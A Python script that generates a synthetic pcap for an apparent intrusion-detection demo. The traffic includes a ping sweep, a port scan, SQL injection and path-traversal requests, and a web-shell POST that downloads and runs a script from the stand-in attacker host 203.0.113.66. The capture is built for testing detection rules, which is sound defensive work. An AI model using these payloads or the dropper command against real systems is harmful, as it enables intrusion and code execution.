#!/usr/bin/env python3
"""make_sample.py: writes data/pcaps/sample.pcap, vigil's bundled demo capture.

    python3 data/pcaps/make_sample.py [OUT.pcap]      (default: sample.pcap beside this file)

Standard library only; the output is byte-for-byte deterministic (fixed
clock, addresses, ports, sequence numbers, IP ids).  Ethernet/IPv4 with
correct IP, TCP, UDP and ICMP checksums; every TCP connection opens with a
real 3-way handshake and closes with FIN/ACK both ways (the scan's
half-open probes end in RST, as nmap's do).  About 19 seconds of traffic,
shorter than every default flow timeout, so that every flow ends at shutdown:

  t+0s   ping sweep: 203.0.113.66 echoes 192.168.10.1-.20 (3 hosts answer)
  t+2.5s SYN port scan: 203.0.113.66 -> 192.168.10.80, 24 ports (22, 80, 443 open)
  t+5s   benign: 192.168.10.23 resolves www.example.com and fetches a page
  t+7s   SQL injection: sqlmap-style requests (tautology, then UNION SELECT) on keep-alive
  t+9s   path traversal: GET /download.php?file=../../../../etc/passwd, passwd leaked
  t+11s  web shell: GET shell.php?cmd=id (uid= in reply), POST wget/chmod dropper
  t+14s  DNS query for login-verify-account.top (suspicious TLD), answered
  t+15s  SSH: outdated OpenSSH server banner, libssh client banner from outside
  t+17s  FTP login with a cleartext password, from 192.168.10.23 to outside

HOME_NET is 192.168.10.0/24 (inside Suricata's default RFC 1918 HOME_NET);
203.0.113.66 (TEST-NET-3) is the attacker; 93.184.216.34 and
198.51.100.20 are outside servers.  The rules that fire on it are in
data/rules/vigil.rules.
"""
import os
import struct
import sys

T0 = 1714550400  # 2024-05-01T08:00:00Z
ATTACKER = "203.0.113.66"
WEB = "192.168.10.80"
CLIENT = "192.168.10.23"
RESOLVER = "192.168.10.1"
MAC = {}


def ip4(s):
    return bytes(int(x) for x in s.split("."))


def mac_of(ip):
    # Outside hosts sit behind the gateway's MAC; inside hosts have their own.
    if not ip.startswith("192.168.10."):
        ip = "192.168.10.1"
    return MAC.setdefault(ip, bytes([0x02, 0x00, 0x5e, 0x10, 0x0a, int(ip.split(".")[3])]))


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


class Capture:
    def __init__(self):
        self.t = 0.0  # seconds since T0
        self.frames = []
        self.ipid = {}

    def at(self, t):
        self.t = max(self.t, t)

    def tick(self, dt=0.0004):
        self.t += dt

    def ip(self, src, dst, proto, payload, ttl=None):
        ident = self.ipid.get(src, 0x1000 + int(src.split(".")[3]) * 64)
        self.ipid[src] = (ident + 1) & 0xFFFF
        if ttl is None:
            ttl = 64 if src.startswith("192.168.") else 52
        hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), ident, 0x4000, ttl, proto, 0,
                          ip4(src), ip4(dst))
        hdr = hdr[:10] + struct.pack("!H", csum(hdr)) + hdr[12:]
        eth = mac_of(dst) + mac_of(src) + b"\x08\x00"
        sec = T0 + int(self.t)
        usec = int(round((self.t - int(self.t)) * 1e6))
        self.frames.append((sec, usec, eth + hdr + payload))

    def l4sum(self, src, dst, proto, seg):
        pseudo = ip4(src) + ip4(dst) + struct.pack("!BBH", 0, proto, len(seg))
        return csum(pseudo + seg)

    def tcp(self, src, sport, dst, dport, seq, ack, flags, data=b"", win=64240, opts=b""):
        off = (20 + len(opts)) // 4
        seg = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF, off << 4, flags,
                          win, 0, 0) + opts + data
        c = self.l4sum(src, dst, 6, seg)
        self.ip(src, dst, 6, seg[:16] + struct.pack("!H", c) + seg[18:])

    def udp(self, src, sport, dst, dport, data):
        seg = struct.pack("!HHHH", sport, dport, 8 + len(data), 0) + data
        c = self.l4sum(src, dst, 17, seg) or 0xFFFF
        self.ip(src, dst, 17, seg[:6] + struct.pack("!H", c) + seg[8:])

    def icmp(self, src, dst, typ, code, ident, seq, data):
        msg = struct.pack("!BBHHH", typ, code, 0, ident, seq) + data
        msg = msg[:2] + struct.pack("!H", csum(msg)) + msg[4:]
        self.ip(src, dst, 1, msg)

    def write(self, path):
        out = [struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1)]
        for sec, usec, frame in self.frames:
            out.append(struct.pack("<IIII", sec, usec, len(frame), len(frame)) + frame)
        data = b"".join(out)
        with open(path, "wb") as f:
            f.write(data)
        return len(data)


FIN, SYN, RST, PSH, ACK = 0x01, 0x02, 0x04, 0x08, 0x10
SYN_OPTS = struct.pack("!BBH", 2, 4, 1460) + b"\x01\x01\x04\x02"  # MSS 1460, NOP NOP SACK-permitted


class Conn:
    """One TCP connection: handshake, data both ways (acked), orderly close."""

    def __init__(self, cap, cli, cport, srv, sport, isn_c, isn_s):
        self.cap, self.cli, self.cport, self.srv, self.sport = cap, cli, cport, srv, sport
        self.c_seq, self.s_seq = isn_c, isn_s
        cap.tcp(cli, cport, srv, sport, self.c_seq, 0, SYN, opts=SYN_OPTS)
        cap.tick(0.021)
        cap.tcp(srv, sport, cli, cport, self.s_seq, self.c_seq + 1, SYN | ACK, win=65160, opts=SYN_OPTS)
        cap.tick(0.020)
        self.c_seq += 1
        self.s_seq += 1
        cap.tcp(cli, cport, srv, sport, self.c_seq, self.s_seq, ACK)
        cap.tick()

    def send(self, from_client, data, mss=1448):
        cap = self.cap
        for i in range(0, len(data), mss):
            chunk = data[i:i + mss]
            if from_client:
                cap.tcp(self.cli, self.cport, self.srv, self.sport, self.c_seq, self.s_seq, PSH | ACK, chunk)
                self.c_seq += len(chunk)
            else:
                cap.tcp(self.srv, self.sport, self.cli, self.cport, self.s_seq, self.c_seq, PSH | ACK, chunk)
                self.s_seq += len(chunk)
            cap.tick(0.0002)
        cap.tick(0.020)
        if from_client:  # the receiver acks the data
            cap.tcp(self.srv, self.sport, self.cli, self.cport, self.s_seq, self.c_seq, ACK)
        else:
            cap.tcp(self.cli, self.cport, self.srv, self.sport, self.c_seq, self.s_seq, ACK)
        cap.tick(0.002)

    def close(self, client_first=True):
        cap = self.cap
        a = (self.cli, self.cport, self.srv, self.sport)
        b = (self.srv, self.sport, self.cli, self.cport)
        if client_first:
            cap.tcp(*a, self.c_seq, self.s_seq, FIN | ACK)
            cap.tick(0.020)
            cap.tcp(*b, self.s_seq, self.c_seq + 1, FIN | ACK)
            cap.tick(0.020)
            cap.tcp(*a, self.c_seq + 1, self.s_seq + 1, ACK)
        else:
            cap.tcp(*b, self.s_seq, self.c_seq, FIN | ACK)
            cap.tick(0.020)
            cap.tcp(*a, self.c_seq, self.s_seq + 1, FIN | ACK)
            cap.tick(0.020)
            cap.tcp(*b, self.s_seq + 1, self.c_seq + 1, ACK)
        cap.tick(0.010)


def http_response(status, body, ctype="text/html; charset=UTF-8", extra=""):
    body = body.encode()
    head = ("HTTP/1.1 %s\r\nDate: Wed, 01 May 2024 08:00:15 GMT\r\nServer: Apache/2.4.57 (Debian)\r\n"
            "%sContent-Type: %s\r\nContent-Length: %d\r\n\r\n" % (status, extra, ctype, len(body)))
    return head.encode() + body


def http_request(method, uri, host, ua, body=b"", extra=""):
    head = "%s %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nAccept: */*\r\n%s" % (method, uri, host, ua, extra)
    if body:
        head += "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n" % len(body)
    return (head + "\r\n").encode() + body


def dns_name(name):
    return b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"


def dns_query(ident, name):
    return struct.pack("!HHHHHH", ident, 0x0100, 1, 0, 0, 0) + dns_name(name) + struct.pack("!HH", 1, 1)


def dns_answer(ident, name, addr):
    q = dns_name(name) + struct.pack("!HH", 1, 1)
    rr = struct.pack("!HHHIH", 0xC00C, 1, 1, 300, 4) + ip4(addr)
    return struct.pack("!HHHHHH", ident, 0x8180, 1, 1, 0, 0) + q + rr


def ping_sweep(cap):
    cap.at(0.0)
    payload = bytes(range(0x10, 0x30))  # 32 bytes, as a scanner's probe might carry
    alive = {"192.168.10.1", "192.168.10.5", "192.168.10.10"}
    for host in range(1, 21):
        dst = "192.168.10.%d" % host
        cap.icmp(ATTACKER, dst, 8, 0, 0x2C1A, host, payload)
        cap.tick(0.0015)
        if dst in alive:
            cap.icmp(dst, ATTACKER, 0, 0, 0x2C1A, host, payload)
        cap.tick(0.1)


def syn_scan(cap):
    cap.at(2.5)
    nmap_opts = struct.pack("!BBH", 2, 4, 1460)
    ports = [21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 443, 445, 993, 995, 1433, 1723, 3306,
             3389, 5432, 5900, 6379, 8080, 8443]
    open_ports = {22, 80, 443}
    for i, port in enumerate(ports):
        seq = 0x5A3C0000 + i * 7919
        cap.tcp(ATTACKER, 61337, WEB, port, seq, 0, SYN, win=1024, opts=nmap_opts)
        cap.tick(0.0008)
        if port in open_ports:
            cap.tcp(WEB, port, ATTACKER, 61337, 0x7E000000 + port, seq + 1, SYN | ACK, win=65160, opts=nmap_opts)
            cap.tick(0.0008)
            cap.tcp(ATTACKER, 61337, WEB, port, seq + 1, 0, RST, win=0)
        else:
            cap.tcp(WEB, port, ATTACKER, 61337, 0, seq + 1, RST | ACK, win=0)
        cap.tick(0.05)


def benign(cap):
    cap.at(5.0)
    cap.udp(CLIENT, 40001, RESOLVER, 53, dns_query(0x1A2B, "www.example.com"))
    cap.tick(0.012)
    cap.udp(RESOLVER, 53, CLIENT, 40001, dns_answer(0x1A2B, "www.example.com", "93.184.216.34"))
    cap.tick(0.01)
    c = Conn(cap, CLIENT, 50110, "93.184.216.34", 80, 0x10000000, 0x20000000)
    c.send(True, http_request("GET", "/", "www.example.com",
                              "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
                              extra="Accept-Language: en-US,en;q=0.5\r\nConnection: keep-alive\r\n"))
    c.send(False, http_response("200 OK", "<!doctype html>\n<html><head><title>Example Domain</title></head>"
                                "<body><h1>Example Domain</h1><p>This domain is for use in examples.</p>"
                                "</body></html>\n"))
    c.close()


def sql_injection(cap):
    cap.at(7.0)
    ua = "sqlmap/1.7.2#stable (https://sqlmap.org)"
    c = Conn(cap, ATTACKER, 51234, WEB, 80, 0x31000000, 0x41000000)
    c.send(True, http_request("GET", "/products.php?id=1%27%20OR%20%271%27%3D%271", "shop.example.local", ua,
                              extra="Connection: keep-alive\r\n"))
    c.send(False, http_response("200 OK", "<html><body><h2>Products</h2><ul><li>Lamp</li><li>Desk</li>"
                                "<li>Chair</li></ul></body></html>\n"))
    cap.tick(0.5)
    c.send(True, http_request("GET", "/products.php?id=1%20UNION%20ALL%20SELECT%20username,password%20FROM"
                              "%20users--%20-", "shop.example.local", ua, extra="Connection: close\r\n"))
    c.send(False, http_response("200 OK", "<html><body><h2>Products</h2><ul><li>admin</li>"
                                "<li>5f4dcc3b5aa765d61d8327deb882cf99</li></ul></body></html>\n",
                                extra="Connection: close\r\n"))
    c.close(client_first=False)


def traversal(cap):
    cap.at(9.0)
    c = Conn(cap, ATTACKER, 51240, WEB, 80, 0x32000000, 0x42000000)
    c.send(True, http_request("GET", "/download.php?file=../../../../etc/passwd", "shop.example.local",
                              "curl/8.4.0", extra="Connection: close\r\n"))
    c.send(False, http_response("200 OK", "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:"
                                "/usr/sbin/nologin\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n",
                                ctype="application/octet-stream", extra="Connection: close\r\n"))
    c.close(client_first=False)


def web_shell(cap):
    cap.at(11.0)
    ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"
    c = Conn(cap, ATTACKER, 51250, WEB, 80, 0x33000000, 0x43000000)
    c.send(True, http_request("GET", "/uploads/shell.php?cmd=id", "shop.example.local", ua,
                              extra="Connection: keep-alive\r\n"))
    c.send(False, http_response("200 OK", "<pre>uid=33(www-data) gid=33(www-data) groups=33(www-data)\n</pre>\n"))
    cap.tick(1.2)
    body = b"cmd=wget+http://203.0.113.66/x.sh+-O+/tmp/.x.sh;chmod+%2Bx+/tmp/.x.sh;/tmp/.x.sh"
    c.send(True, http_request("POST", "/uploads/shell.php", "shop.example.local", ua, body=body,
                              extra="Connection: close\r\n"))
    c.send(False, http_response("200 OK", "<pre></pre>\n", extra="Connection: close\r\n"))
    c.close(client_first=False)


def suspicious_dns(cap):
    cap.at(14.0)
    name = "login-verify-account.top"
    cap.udp(CLIENT, 40123, RESOLVER, 53, dns_query(0x5E77, name))
    cap.tick(0.035)
    cap.udp(RESOLVER, 53, CLIENT, 40123, dns_answer(0x5E77, name, "198.51.100.77"))


def ssh(cap):
    cap.at(15.0)
    c = Conn(cap, ATTACKER, 51260, WEB, 22, 0x34000000, 0x44000000)
    c.send(False, b"SSH-2.0-OpenSSH_6.6.1p1 Ubuntu-2ubuntu2.13\r\n")
    c.send(True, b"SSH-2.0-libssh_0.9.6\r\n")
    cap.tick(0.3)
    c.close()


def ftp(cap):
    cap.at(17.0)
    c = Conn(cap, CLIENT, 50200, "198.51.100.20", 21, 0x35000000, 0x45000000)
    for frm_client, line in ((False, b"220 (vsFTPd 3.0.3)\r\n"), (True, b"USER backup\r\n"),
                             (False, b"331 Please specify the password.\r\n"), (True, b"PASS Winter2024!\r\n"),
                             (False, b"230 Login successful.\r\n"), (True, b"QUIT\r\n"),
                             (False, b"221 Goodbye.\r\n")):
        c.send(frm_client, line)
        cap.tick(0.2)
    c.close(client_first=False)


def main():
    out = sys.argv[1] if len(sys.argv) > 1 else os.path.join(os.path.dirname(os.path.abspath(__file__)),
                                                            "sample.pcap")
    cap = Capture()
    for part in (ping_sweep, syn_scan, benign, sql_injection, traversal, web_shell, suspicious_dns, ssh, ftp):
        part(cap)
    n = cap.write(out)
    print("%s: %d packets, %d bytes" % (out, len(cap.frames), n))
    return 0


if __name__ == "__main__":
    sys.exit(main())
